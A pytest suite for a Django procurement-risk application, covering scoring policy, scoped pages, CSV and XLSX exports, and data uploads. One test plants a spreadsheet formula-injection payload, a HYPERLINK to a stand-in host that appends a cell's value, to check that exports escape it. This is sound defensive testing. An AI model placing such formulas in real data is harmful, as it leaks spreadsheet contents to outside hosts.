"""Procurement risk: scoring into Django tables, scoped pages, exports, uploads, API."""

from __future__ import annotations

import datetime as dt
import gzip
import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from cegah.accounts.services import create_api_token
from cegah.core.models import AuditEntry
from cegah.orgs.models import Organisation
from cegah.procurement import services
from cegah.procurement.models import (
    Buyer,
    BuyerRisk,
    ImportJob,
    ScoringRun,
    TenderExport,
    TenderRisk,
)
from cegah.procurement.scoring import Policy, PolicyError, explain
from tests.conftest import CANARY, Personas
from tests.procurement.conftest import DATA, needs_data, release, write_releases
from tests.procurement.web_helpers import LOOSE, OTHER, OWN, World, build_world

pytestmark = pytest.mark.django_db


@pytest.fixture
def world(personas: Personas, procurement_store: Path, tmp_path: Path) -> World:
    return build_world(personas, tmp_path)


# --- Policy -------------------------------------------------------------------------------------


def test_policy_defaults_and_overrides() -> None:
    policy = Policy.parse("[tender_points]\nID01 = 40\n[zones]\nhigh = 60\n")
    assert policy.tender_points["ID01"] == 40 and policy.tender_points["R018"] == 15
    assert policy.tender_score([{"code": "ID01"}, {"code": "R018"}, {"code": "X"}]) == 55
    assert policy.zone(60, 10) == "high" and policy.zone(59, 10) == "medium"
    assert policy.zone(90, 2) == "few"
    assert Policy.from_dict(policy.to_dict()) == policy


@pytest.mark.parametrize(
    "text",
    ["[nope]\n", "[zones]\nhigh = x\n", "[zones]\nmedium = 50\nhigh = 40\n", "[zones]\nfoo = 1\n"],
)
def test_bad_policy_is_refused(text: str) -> None:
    with pytest.raises(PolicyError):
        Policy.parse(text)


def test_explanations_quote_value_and_threshold() -> None:
    text = explain("ID01", 39.0, {"ID01": {"minimum_registrants": 3}})
    assert "39" in text["reason"] and "3" in text["reason"]
    assert explain("ID05", 2.0, {"ID05": {"Tender": 5}}, method_details="Tender")["reason"].count(
        "5"
    )
    assert "?" in explain("ID01", 39.0, {})["reason"]  # threshold unknown: shown, not a crash


def test_r003_explanation_quotes_the_period_and_the_minimum_for_the_method() -> None:
    meta = {"R003": {"threshold": 15, "Tender Cepat": 3}}
    with translation.override("en"):
        fast = explain("R003", 1.0, meta, method_details="Tender Cepat", days=2)["reason"]
        other = explain("R003", 1.0, meta, method_details="Tender", days=7)["reason"]
    assert "lasted 2 whole days, fewer than the 3 days" in fast
    assert "lasted 7 whole days, fewer than the 15 days" in other


def test_scoring_keeps_the_r003_thresholds_it_used(world: World) -> None:
    run = services.current_run()
    assert run is not None
    # data/indicators.ini: the minima ID05 applies (Tender and Seleksi 5, Tender Cepat 3)
    assert run.meta["R003"] == {"threshold": 15, "Tender": 5, "Seleksi": 5, "Tender Cepat": 3}


# --- Scoring ------------------------------------------------------------------------------------


def test_scoring_writes_tenders_and_buyer_risks(world: World) -> None:
    assert TenderRisk.objects.count() == 17
    single = TenderRisk.objects.get(ocid="ocds-test-100")
    codes = [f["code"] for f in single.flags]
    assert "ID01" in codes and "R018" in codes
    assert single.score == Policy().tender_score(single.flags) >= Policy().at_risk
    assert single.n_bidders == 1 and single.n_registrants == 10 and single.hps == 1_000_000_000
    assert single.bids and single.bids[0]["winner"] is True
    own = BuyerRisk.objects.get(buyer__buyer_id=OWN, year=2025)
    assert own.tenders == 6 and own.at_risk == 4
    assert own.zone == "high" and own.organisation is not None
    other = BuyerRisk.objects.get(buyer__buyer_id=OTHER)
    assert other.at_risk == 0 and other.zone in {"low", "medium"}
    assert ScoringRun.objects.get().meta["ID01"]["minimum_registrants"] == 3


def test_rescoring_keeps_mappings(world: World, personas: Personas) -> None:
    services.score_store()
    assert Buyer.objects.get(buyer_id=OWN).organisation == personas.org
    assert TenderRisk.objects.get(ocid="ocds-test-100").organisation == personas.org
    assert BuyerRisk.objects.get(buyer__buyer_id=OWN).organisation == personas.org


def test_rescoring_in_small_slices_gives_the_same_rows(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Tender rows are read back from DuckDB by ranges of processes; how many at a time must
    not change what is stored (17 tenders: in slices of 10, in batches of 1)."""

    def stored() -> list[dict]:
        fields = ["ocid", "buyer_id", "title", "score", "flags", "bids", "winner", "value"]
        return list(TenderRisk.objects.order_by("ocid").values(*fields))

    before = stored()
    monkeypatch.setattr(services, "BATCH", 1)
    services.score_store()
    assert stored() == before
    assert len(before) == 17


# --- Pages and scope ----------------------------------------------------------------------------


def test_analyst_sees_only_buyers_of_own_subtree(
    world: World, personas: Personas, client_for
) -> None:
    client = client_for(world.analyst)
    page = client.get(f"/pbj/{personas.org.slug}/")
    assert page.status_code == 200
    assert CANARY in page.content.decode()
    assert f"Satker {OTHER}" not in page.content.decode()
    tenders = client.get(f"/pbj/{personas.org.slug}/tenders/").content.decode()
    assert "Jalan" in tenders and TenderRisk.objects.get(
        ocid="ocds-test-200"
    ).title not in tenders.replace(CANARY, "")
    other = TenderRisk.objects.get(ocid="ocds-test-200")
    assert client.get(f"/pbj/{personas.org.slug}/tenders/{other.pk}/").status_code == 404
    loose = Buyer.objects.get(buyer_id=LOOSE)
    assert client.get(f"/pbj/{personas.org.slug}/satker/{loose.pk}/").status_code == 404
    # A unit below the organisation is part of its subtree.
    services.map_buyer(loose, Organisation.objects.get(slug="dinas-uji"), actor=None)
    assert client.get(f"/pbj/{personas.org.slug}/satker/{loose.pk}/").status_code == 200


def test_kpk_analyst_sees_everything_including_unmapped(world: World, client_for) -> None:
    client = client_for(world.kpk_analyst)
    body = client.get("/pbj/kpk-uji/?level=institution").content.decode()
    assert "Inspektorat Uji" in body and "Inspektorat Lain" in body
    body = client.get("/pbj/kpk-uji/").content.decode()
    assert f"Satker {LOOSE}" in body


def test_non_analysts_and_outsiders_get_404(world: World, personas: Personas, client_for) -> None:
    for user in (personas.admin, personas.outsider, world.other_analyst):
        client = client_for(user)
        assert client.get(f"/pbj/{personas.org.slug}/").status_code == 404
        assert client.get(f"/pbj/{personas.org.slug}/tenders/export.csv").status_code == 404


def test_tender_detail_explains_each_flag(world: World, personas: Personas, client_for) -> None:
    tender = TenderRisk.objects.get(ocid="ocds-test-100")
    body = (
        client_for(world.analyst)
        .get(f"/pbj/{personas.org.slug}/tenders/{tender.pk}/")
        .content.decode()
    )
    assert "ID01" in body and "10" in body  # registrants quoted
    assert "Rp" in body and "PT Penyedia" in body
    assert tender.method == "open" and "Tender (terbuka)" in body  # OCDS's code, translated
    # OCDS's category and bid status codes, translated too
    assert tender.category == "works" and "pekerjaan konstruksi" in body
    assert ">sah</td>" in body and ">valid</td>" not in body


def test_tender_list_filters_sorts_and_paginates(world: World, client_for) -> None:
    client = client_for(world.kpk_analyst)
    body = client.get("/pbj/kpk-uji/tenders/?flag=ID01&sort=value").content.decode()
    assert "ocds-test-2" not in body  # OTHER's tenders have no single offer
    htmx = client.get("/pbj/kpk-uji/tenders/?min_score=90", headers={"HX-Request": "true"})
    assert b"<html" not in htmx.content and htmx.status_code == 200


def test_method_filter_lists_each_method_once(world: World, client_for) -> None:
    # TenderRisk's default ordering used to make the DISTINCT per tender: at 200,000 tenders
    # the list page carried 200,000 options (11 MB) and took 10 s.
    body = client_for(world.kpk_analyst).get("/pbj/kpk-uji/tenders/").content.decode()
    assert body.count('<option value="Tender">') == 1


def test_ranking_year_and_zone_counts_follow_the_filters(world: World, client_for) -> None:
    # Filtered with JavaScript, only the rows are swapped: the year and its counts come with them.
    rows = client_for(world.kpk_analyst).get(
        "/pbj/kpk-uji/?year=2025", headers={"HX-Request": "true"}
    )
    body = rows.content.decode()
    zones = BuyerRisk.objects.filter(year=2025, zone="high").count()
    assert "Tahun anggaran 2025" in body and 'class="zonebar"' in body
    assert f'<span class="zone zone-high">Risiko tinggi</span> {zones}</li>' in body


def test_lists_and_rankings_are_sent_compressed(world: World, client_for) -> None:
    import gzip as gz

    client = client_for(world.kpk_analyst)
    plain = client.get("/pbj/kpk-uji/tenders/")
    packed = client.get("/pbj/kpk-uji/tenders/", headers={"Accept-Encoding": "gzip"})
    assert "Content-Encoding" not in plain and packed["Content-Encoding"] == "gzip"
    rows = gz.decompress(packed.content).count(b"<tr")
    assert rows == plain.content.count(b"<tr") > 5
    assert len(packed.content) < len(plain.content) / 3


def test_exports(world: World, personas: Personas, client_for) -> None:
    client = client_for(world.analyst)
    csv_body = b"".join(
        client.get(f"/pbj/{personas.org.slug}/tenders/export.csv").streaming_content
    )
    text = csv_body.decode("utf-8-sig")
    assert text.count("ocds-test-1") == 6 and "ocds-test-200" not in text
    response = client.get(f"/pbj/{personas.org.slug}/tenders/export.xlsx")
    from openpyxl import load_workbook

    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert len(rows) == 7


def test_no_exported_title_runs_as_a_formula(world: World, personas: Personas, client_for) -> None:
    from openpyxl import load_workbook

    # Titles come from e-procurement data: one may be written to run in the analyst's Excel.
    attack = '=HYPERLINK("https://contoh.invalid/?"&A2,"Klik")'
    TenderRisk.objects.filter(ocid="ocds-test-100").update(title=attack)
    client = client_for(world.analyst)
    slug = personas.org.slug
    csv_text = b"".join(client.get(f"/pbj/{slug}/tenders/export.csv").streaming_content)
    assert f"'{attack}".replace('"', '""') in csv_text.decode("utf-8-sig")
    sheet = load_workbook(io.BytesIO(client.get(f"/pbj/{slug}/tenders/export.xlsx").content))
    [cell] = [c for row in sheet.active.iter_rows() for c in row if c.value == attack]
    assert cell.data_type == "s"


def test_buyer_ids_a_spreadsheet_would_run_survive_the_mapping_round_trip(
    world: World, personas: Personas, client_for
) -> None:
    odd = Buyer.objects.create(buyer_id="-SATKER-9", name="=Satker ganjil")
    client = client_for(world.kpk_analyst)
    listing = b"".join(client.get("/pbj/kpk-uji/buyers.csv").streaming_content).decode("utf-8-sig")
    [line] = [line for line in listing.splitlines() if "SATKER-9" in line]
    assert line == "'-SATKER-9,'=Satker ganjil,"
    text = f"buyer_id,name,organisation\n{line}{personas.org.slug}"
    response = client.post("/pbj/kpk-uji/buyers/map/", {"mapping": _mapping(text)})
    assert response.status_code == 302
    odd.refresh_from_db()
    assert odd.organisation == personas.org


def test_csv_holds_every_tender_and_xlsx_at_most_max_rows(
    world: World, personas: Personas, client_for, monkeypatch: pytest.MonkeyPatch
) -> None:
    from openpyxl import load_workbook

    from cegah.procurement import exports

    monkeypatch.setattr(exports, "MAX_ROWS", 4)
    client = client_for(world.analyst)
    slug = personas.org.slug
    csv_text = b"".join(client.get(f"/pbj/{slug}/tenders/export.csv").streaming_content)
    assert csv_text.decode("utf-8-sig").count("ocds-test-1") == 6
    sheet = load_workbook(io.BytesIO(client.get(f"/pbj/{slug}/tenders/export.xlsx").content))
    assert len(list(sheet.active.iter_rows(values_only=True))) == 1 + 4


def _prepare_export(client, slug: str, query: str, capture) -> TenderExport:  # type: ignore[no-untyped-def]
    with capture(execute=True):
        response = client.post(f"/pbj/{slug}/exports/", {"query": query})
    job = TenderExport.objects.latest("pk")
    assert response.status_code == 302 and response["Location"].endswith(f"/exports/{job.pk}/")
    return job


def test_large_xlsx_is_prepared_in_the_background(
    world: World, personas: Personas, client_for, monkeypatch, django_capture_on_commit_callbacks
) -> None:
    from openpyxl import load_workbook

    monkeypatch.setattr(services, "EXPORT_DIRECT_ROWS", 3)
    client = client_for(world.analyst)
    slug = personas.org.slug
    # Six tenders are more than three: the request builds no file, it offers to prepare one.
    page = client.get(f"/pbj/{slug}/tenders/export.xlsx?min_score=1&page=2&junk=1")
    assert page["Content-Type"].startswith("text/html")
    body = page.content.decode()
    assert 'name="query" value="min_score=1"' in body and "/exports/" in body
    assert not TenderExport.objects.exists()

    job = _prepare_export(client, slug, "min_score=1", django_capture_on_commit_callbacks)
    job.refresh_from_db()
    assert job.status == TenderExport.Status.DONE and job.created_by == world.analyst
    shown = client.get(f"/pbj/{slug}/exports/{job.pk}/").content.decode()
    assert f"/exports/{job.pk}/download/" in shown and "http-equiv" not in shown
    download = client.get(f"/pbj/{slug}/exports/{job.pk}/download/")
    assert download["Content-Disposition"].startswith('attachment; filename="tenders-')
    rows = list(
        load_workbook(io.BytesIO(b"".join(download.streaming_content))).active.iter_rows(
            values_only=True
        )
    )
    expected = TenderRisk.objects.filter(organisation=personas.org, score__gte=1).count()
    assert len(rows) == 1 + expected == 1 + job.rows_total
    assert {r[0] for r in rows[1:]} <= {f"ocds-test-{100 + i}" for i in range(6)}
    entry = AuditEntry.objects.get(action="procurement.export.requested")
    assert entry.actor == world.analyst and entry.details["filters"] == "min_score=1"
    assert f"/exports/{job.pk}/" in client.get(f"/pbj/{slug}/exports/").content.decode()


@pytest.mark.django_db(transaction=True)
def test_export_progress_is_written_beside_the_read(
    world: World, personas: Personas, client_for, monkeypatch: pytest.MonkeyPatch
) -> None:
    from cegah.core.apart import apart
    from cegah.procurement import exports

    written: list[int] = []

    def spy(work):  # type: ignore[no-untyped-def]
        written.append(apart(work))  # rows updated, on a connection of its own
        return written[-1]

    monkeypatch.setattr(services, "EXPORT_DIRECT_ROWS", 3)
    monkeypatch.setattr(exports, "PROGRESS_EVERY", 2)
    monkeypatch.setattr(services, "apart", spy)
    client = client_for(world.analyst)
    client.post(f"/pbj/{personas.org.slug}/exports/", {"query": ""})
    job = TenderExport.objects.get()
    assert job.status == TenderExport.Status.DONE and job.rows_total == 6
    assert written == [1, 1, 1]  # after rows 2, 4 and 6


def test_prepared_export_is_its_requesters_only(
    world: World, personas: Personas, client_for, django_capture_on_commit_callbacks
) -> None:
    from cegah.accounts.models import Membership, Role, User

    slug = personas.org.slug
    job = _prepare_export(client_for(world.analyst), slug, "", django_capture_on_commit_callbacks)
    colleague = User.objects.create_user(username="rekan", password="correct horse battery 9")
    Membership.objects.create(user=colleague, organisation=personas.org, role=Role.ANALYST)
    for user in (colleague, world.other_analyst, world.kpk_analyst):
        client = client_for(user)
        for path in (f"/exports/{job.pk}/", f"/exports/{job.pk}/download/"):
            assert client.get(f"/pbj/{slug}{path}").status_code == 404
        assert f"/exports/{job.pk}/" not in client.get(f"/pbj/{slug}/exports/").content.decode()


def test_export_requests_are_reused_and_bounded(
    world: World, personas: Personas, client_for, monkeypatch
) -> None:
    monkeypatch.setattr(services, "EXPORTS_AT_ONCE", 2)
    client = client_for(world.analyst)
    slug = personas.org.slug
    # Without the on-commit callbacks run, the exports stay waiting.
    first = client.post(f"/pbj/{slug}/exports/", {"query": "min_score=1"})
    again = client.post(f"/pbj/{slug}/exports/", {"query": "min_score=1&page=3"})
    assert first["Location"] == again["Location"] and TenderExport.objects.count() == 1
    client.post(f"/pbj/{slug}/exports/", {"query": "min_score=2"})
    refused = client.post(f"/pbj/{slug}/exports/", {"query": "min_score=3"}, follow=True)
    assert TenderExport.objects.count() == 2
    assert refused.redirect_chain == []  # the list page, with the reason
    [message] = list(refused.context["messages"])
    assert message.level_tag == "error" and "2" in str(message)


def test_export_fails_clearly_when_access_is_lost(
    world: World, personas: Personas, client_for
) -> None:
    from cegah.accounts.models import Membership

    client = client_for(world.analyst)
    client.post(f"/pbj/{personas.org.slug}/exports/", {"query": ""})
    job = TenderExport.objects.get()
    Membership.objects.filter(user=world.analyst).delete()
    services.build_export(job.pk)
    job.refresh_from_db()
    assert job.status == TenderExport.Status.FAILED and not job.path
    assert "no longer" in job.error or "tidak lagi" in job.error
    assert not list(services.export_dir().glob("*"))


def test_exports_expire_and_stalled_ones_fail(
    world: World, personas: Personas, client_for, django_capture_on_commit_callbacks
) -> None:
    import datetime as dt
    import os

    from django.utils import timezone

    client = client_for(world.analyst)
    slug = personas.org.slug
    job = _prepare_export(client, slug, "", django_capture_on_commit_callbacks)
    job.refresh_from_db()
    path = Path(job.path)
    assert path.is_file() and path.parent == services.export_dir()
    later = timezone.now() + services.EXPORT_KEEP + dt.timedelta(minutes=1)
    waiting = TenderExport.objects.create(
        organisation=personas.org, created_by=world.analyst, query="q=x"
    )
    TenderExport.objects.filter(pk=waiting.pk).update(
        created_at=later - services.EXPORT_STALLED_AFTER - dt.timedelta(minutes=1)
    )
    queued = TenderExport.objects.create(
        organisation=personas.org, created_by=world.analyst, query="q=y"
    )
    TenderExport.objects.filter(pk=queued.pk).update(
        created_at=later - services.EXPORT_STALLED_AFTER + dt.timedelta(minutes=1)
    )
    assert services.expire_exports(now=later) == 2
    job.refresh_from_db()
    waiting.refresh_from_db()
    queued.refresh_from_db()
    assert queued.status == TenderExport.Status.PENDING  # still within its time
    assert job.status == TenderExport.Status.EXPIRED and not path.exists()
    assert waiting.status == TenderExport.Status.FAILED and waiting.error
    assert client.get(f"/pbj/{slug}/exports/{job.pk}/download/").status_code == 404
    # A file left half-written by a stopped worker goes too, once it is old enough.
    left = services.export_dir() / "0123.part"
    left.write_bytes(b"PK")
    young = services.export_dir() / "4567.part"
    young.write_bytes(b"PK")
    old = (later - services.EXPORT_KEEP - dt.timedelta(hours=2)).timestamp()
    os.utime(left, (old, old))
    assert services.expire_exports(now=later) == 0
    assert not left.exists() and young.exists()


def test_export_links_follow_the_filters(world: World, personas: Personas, client_for) -> None:
    # The links are swapped with the rows when a filter changes (htmx), so they carry it.
    rows = client_for(world.analyst).get(
        f"/pbj/{personas.org.slug}/tenders/?min_score=7", headers={"HX-Request": "true"}
    )
    assert "export.xlsx?min_score=7" in rows.content.decode()


def test_trends_chart_is_inline_svg(world: World, personas: Personas, client_for) -> None:
    body = client_for(world.analyst).get(f"/pbj/{personas.org.slug}/trends/").content.decode()
    assert "<svg" in body and "<script" not in body.split("<svg")[1].split("</svg>")[0]


# --- Imports and mapping ------------------------------------------------------------------------


def test_upload_imports_and_rescores(
    world: World, client_for, tmp_path: Path, django_capture_on_commit_callbacks
) -> None:
    client = client_for(world.kpk_analyst)
    data = write_releases(tmp_path / "new.jsonl", [release(900, "ID-SATKER-NEW", bidders=1)])
    upload = SimpleUploadedFile("new.jsonl", data.read_bytes())
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/pbj/kpk-uji/imports/", {"file": upload})
    job = ImportJob.objects.get()
    assert response.status_code == 302 and response["Location"].endswith(f"/imports/{job.pk}/")
    assert job.status == ImportJob.Status.DONE and job.result["imported"] == 1
    assert TenderRisk.objects.filter(ocid="ocds-test-900").exists()
    page = client.get(f"/pbj/kpk-uji/imports/{job.pk}/").content.decode()
    assert "100%" in page and 'http-equiv="refresh"' not in page
    assert AuditEntry.objects.filter(action="procurement.import.finished").exists()
    assert not Path(job.path).exists()  # in the store now: the upload does not pile up


def test_failed_upload_is_discarded_and_a_locked_store_keeps_it_for_the_retry(
    world: World,
    client_for,
    tmp_path: Path,
    django_capture_on_commit_callbacks,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import duckdb

    from cegah.procurement import services
    from cegah.procurement.engine import store

    client = client_for(world.kpk_analyst)
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/pbj/kpk-uji/imports/", {"file": SimpleUploadedFile("a.zip", b"not a zip")})
    failed = ImportJob.objects.get()
    assert failed.status == ImportJob.Status.FAILED
    assert failed.error == "Berkas bukan ZIP yang sah. / The file is not a valid ZIP."
    assert not Path(failed.path).exists()

    def locked(*args: object, **kwargs: object) -> None:
        raise duckdb.IOException("Could not set lock on file")

    monkeypatch.setattr(store.Store, "__init__", locked)
    data = write_releases(tmp_path / "new.jsonl", [release(903, "ID-SATKER-NEW", bidders=1)])
    upload = SimpleUploadedFile("new.jsonl", data.read_bytes())
    with django_capture_on_commit_callbacks(execute=False):
        client.post("/pbj/kpk-uji/imports/", {"file": upload})
    job = ImportJob.objects.exclude(pk=failed.pk).get()
    with pytest.raises(duckdb.IOException):
        services.run_import(job.pk)
    job.refresh_from_db()
    assert job.status == ImportJob.Status.PENDING and Path(job.path).exists()
    monkeypatch.undo()
    services.run_import(job.pk)  # the retry
    job.refresh_from_db()
    assert job.status == ImportJob.Status.DONE and job.result["imported"] == 1
    assert not Path(job.path).exists()


def test_gzipped_upload_is_imported(
    world: World, client_for, tmp_path: Path, django_capture_on_commit_callbacks
) -> None:
    """Compressed OCDS files (as published, and smaller over a slow connection) import too."""
    client = client_for(world.kpk_analyst)
    data = write_releases(tmp_path / "new.jsonl", [release(901, "ID-SATKER-NEW", bidders=1)])
    upload = SimpleUploadedFile("New.JSONL.GZ", gzip.compress(data.read_bytes()))
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/pbj/kpk-uji/imports/", {"file": upload})
    assert response.status_code == 302
    job = ImportJob.objects.get()
    assert job.path.endswith(".jsonl.gz") and job.original_name == "New.JSONL.GZ"
    assert job.status == ImportJob.Status.DONE and job.result["imported"] == 1
    assert TenderRisk.objects.filter(ocid="ocds-test-901").exists()
    rejected = client.post(
        "/pbj/kpk-uji/imports/", {"file": SimpleUploadedFile("a.tar.gz", b"\x1f\x8b")}
    )
    assert rejected.status_code == 200 and ImportJob.objects.count() == 1
    assert ".jsonl.gz" in rejected.content.decode()


def test_upload_of_many_bad_lines_lists_some_and_counts_the_rest(
    world: World,
    client_for,
    tmp_path: Path,
    django_capture_on_commit_callbacks,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from cegah.procurement import services

    monkeypatch.setattr(services, "ISSUES_SHOWN", 2)
    client = client_for(world.kpk_analyst)
    data = write_releases(tmp_path / "new.jsonl", [release(902, "ID-SATKER-NEW", bidders=1)])
    body = data.read_bytes() + b"".join(b"junk %d\n" % n for n in range(5))
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/pbj/kpk-uji/imports/", {"file": SimpleUploadedFile("new.jsonl", body)})
    job = ImportJob.objects.get()
    assert job.result["refused"] == 5 and len(job.result["issues"]) == 2
    page = client.get(f"/pbj/kpk-uji/imports/{job.pk}/").content.decode()
    assert "3 masalah lain tidak dicantumkan." in page
    client.post("/i18n/setlang/", {"language": "en", "next": "/"})
    page = client.get(f"/pbj/kpk-uji/imports/{job.pk}/").content.decode()
    assert "3 more issues are not listed." in page


def test_upload_waits_while_the_store_is_busy_and_fails_clearly_if_it_stays_so(
    world: World,
    client_for,
    tmp_path: Path,
    django_capture_on_commit_callbacks,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import duckdb

    from cegah.procurement import services, tasks
    from cegah.procurement.engine import store

    attempts = []

    def locked(*args: object, **kwargs: object) -> None:
        attempts.append(1)
        raise duckdb.IOException("Could not set lock on file")

    monkeypatch.setattr(store.Store, "__init__", locked)
    client = client_for(world.kpk_analyst)
    data = write_releases(tmp_path / "new.jsonl", [release(904, "ID-SATKER-NEW", bidders=1)])
    with django_capture_on_commit_callbacks(execute=False):
        client.post(
            "/pbj/kpk-uji/imports/", {"file": SimpleUploadedFile("new.jsonl", data.read_bytes())}
        )
    job = ImportJob.objects.get()
    with pytest.raises(duckdb.IOException):
        services.run_import(job.pk)
    page = client.get(f"/pbj/kpk-uji/imports/{job.pk}/").content.decode()
    assert "menunggu dan mulai sendiri" in page  # put back: its page says it waits
    attempts.clear()
    # The immediate task backend retries at once: every attempt meets the lock, then it gives up
    # (before, the job stayed "pending" for ever and its page kept polling).
    tasks.import_upload.enqueue(job.pk)
    assert len(attempts) == 8
    job.refresh_from_db()
    assert job.status == ImportJob.Status.FAILED and "upload this file again later" in job.error
    assert not Path(job.path).exists()
    page = client.get(f"/pbj/kpk-uji/imports/{job.pk}/").content.decode()
    assert "unggah berkas ini lagi nanti" in page


@needs_data(DATA / "spse_kab_bandung_2025")
def test_an_spse_zip_of_several_lpse_imports_each_folder(
    world: World, client_for, django_capture_on_commit_callbacks
) -> None:
    import json
    import zipfile

    # One directory per LPSE, with the same file names (before, the second overwrote the first).
    raw = DATA / "spse_kab_bandung_2025" / "raw"
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        for source in sorted(raw.glob("*.jsonl")):
            zf.writestr(f"jabar/lpse-a/{source.name}", source.read_text())
            lines = []
            for number, line in enumerate(source.read_text().splitlines(), 1):
                record = json.loads(line)
                for code in ("kd_tender", "kd_nontender", "kd_paket"):
                    if isinstance(record.get(code), (int, str)):
                        record[code] = f"{record[code]}9"
                if source.name.startswith("42_") and number == 3:
                    record["nilai_penawaran"] = "banyak"
                lines.append(json.dumps(record))
            zf.writestr(f"jabar/lpse-b/{source.name}", "\n".join(lines) + "\n")
        zf.writestr("jabar/BACA.txt", "bukan ekspor")
    client = client_for(world.kpk_analyst)
    with django_capture_on_commit_callbacks(execute=True):
        upload = SimpleUploadedFile("jabar.zip", archive.getvalue())
        client.post("/pbj/kpk-uji/imports/", {"file": upload})
    job = ImportJob.objects.get()
    assert job.status == ImportJob.Status.DONE, job.error
    assert job.result["imported"] == 2 * 3084 - 1 and job.result["refused"] == 1
    [issue] = job.result["issues"]
    assert issue["file"] == "jabar/lpse-b/42_1070_SPSE-PesertaTender.jsonl"
    assert (issue["line"], issue["field"]) == (3, "nilai_penawaran")
    page = client.get(f"/pbj/kpk-uji/imports/{job.pk}/").content.decode()
    assert "jabar/lpse-b/42_1070_SPSE-PesertaTender.jsonl" in page and "baris 3" in page
    # Scored: both LPSE (one alone has 3,084 processes, of which cancelled ones are not scored).
    assert TenderRisk.objects.filter(source="spse").count() > 3084


def _bandung_zip(broken_line: int | None = None) -> SimpleUploadedFile:
    import zipfile

    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        for source in sorted((DATA / "spse_kab_bandung_2025" / "raw").glob("*.jsonl")):
            lines = source.read_text().splitlines()
            if broken_line and source.name.startswith("42_"):
                lines[broken_line - 1] = "{broken"
            zf.writestr(source.name, "\n".join(lines) + "\n")
    return SimpleUploadedFile(
        "bandung.zip" if broken_line is None else "rusak.zip", archive.getvalue()
    )


@needs_data(DATA / "spse_kab_bandung_2025")
def test_a_zip_with_a_corrupt_participant_line_keeps_complete_tenders_and_adds_up(
    world: World, client_for, django_capture_on_commit_callbacks
) -> None:
    client = client_for(world.kpk_analyst)
    ocid = "ocds-idspse-93-t10040319000"
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/pbj/kpk-uji/imports/", {"file": _bandung_zip()})
    assert TenderRisk.objects.get(ocid=ocid).n_registrants == 46
    # Named, not a raw SIKaP code, although e-Katalog names the same supplier by code only.
    [winner] = TenderRisk.objects.filter(
        title="Pembangunan Interior Ruang Kerja Kabag Operasional Polres Bandung", winner__gt=""
    ).values_list("winner", flat=True)
    assert winner == "CV. KURNIAWAN PUTRA"
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/pbj/kpk-uji/imports/", {"file": _bandung_zip(broken_line=8)})
    job = ImportJob.objects.latest("pk")
    assert job.status == ImportJob.Status.DONE, job.error
    assert TenderRisk.objects.get(ocid=ocid).n_registrants == 46  # not 45
    result = job.result
    assert (result["records"], result["imported"], result["refused"]) == (3084, 2992, 92)
    assert result["issue_count"] == 93
    page = client.get(f"/pbj/kpk-uji/imports/{job.pk}/").content.decode()
    assert "2992 dari 3084 proses pengadaan diimpor, 92 ditolak." in page
    assert "93 masalah ditemukan dalam berkas." in page
    assert "<code>42_1070_SPSE-PesertaTender.jsonl</code> baris 8: " in page
    assert "baris 8 42_1070_SPSE-PesertaTender.jsonl tidak dapat dipakai" in page


def test_an_spse_zip_larger_than_the_limit_is_refused_with_advice(
    world: World,
    client_for,
    django_capture_on_commit_callbacks,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import zipfile

    from cegah.procurement import services

    monkeypatch.setattr(services, "SPSE_ZIP_LIMIT", 1000)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("47_1013_SPSE-TenderPengumuman.jsonl", "{}\n" * 600)  # 1,800 bytes
    client = client_for(world.kpk_analyst)
    with django_capture_on_commit_callbacks(execute=True):
        upload = SimpleUploadedFile("spse.zip", archive.getvalue())
        client.post("/pbj/kpk-uji/imports/", {"file": upload})
    job = ImportJob.objects.get()
    assert job.status == ImportJob.Status.FAILED
    assert "pisahkan per LPSE dan tahun" in job.error and "split it by LPSE and year" in job.error
    assert "pisahkan per LPSE" in client.get(f"/pbj/kpk-uji/imports/{job.pk}/").content.decode()


def test_an_spse_zip_holding_a_file_twice_is_refused(
    world: World, client_for, django_capture_on_commit_callbacks
) -> None:
    import warnings
    import zipfile

    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name
        zf.writestr("a/47_1013_SPSE-TenderPengumuman.jsonl", "{}\n")
        zf.writestr("a/47_1013_SPSE-TenderPengumuman.jsonl", "{}\n{}\n")
    client = client_for(world.kpk_analyst)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            "/pbj/kpk-uji/imports/",
            {"file": SimpleUploadedFile("dua.zip", archive.getvalue())},
        )
    job = ImportJob.objects.get()
    assert job.status == ImportJob.Status.FAILED
    assert "dua kali" in job.error and "twice" in job.error


def test_an_import_whose_worker_stopped_is_failed_after_hours(
    world: World, tmp_path: Path, client_for
) -> None:
    import datetime as dt

    from django.utils import timezone

    from cegah.core.tasks_glue import PERIODIC

    now = timezone.now()

    def job(name: str, status: str, hours: float) -> ImportJob:
        path = tmp_path / name
        path.write_bytes(b"{}\n")
        return ImportJob.objects.create(
            organisation=world.kpk,
            kind="ocds",
            original_name=name,
            path=str(path),
            status=status,
            started_at=now - dt.timedelta(hours=hours),
        )

    lost = job("lost.jsonl", ImportJob.Status.RUNNING, 7)
    scoring = job("scoring.jsonl", ImportJob.Status.SCORING, 6.5)
    live = job("live.jsonl", ImportJob.Status.RUNNING, 1)
    done = job("done.jsonl", ImportJob.Status.DONE, 30)
    assert services.fail_stalled_imports(now) == 2
    for stalled in (lost, scoring):
        stalled.refresh_from_db()
        assert (
            stalled.status == ImportJob.Status.FAILED and "Unggah berkas ini lagi" in stalled.error
        )
        assert not Path(stalled.path).exists()
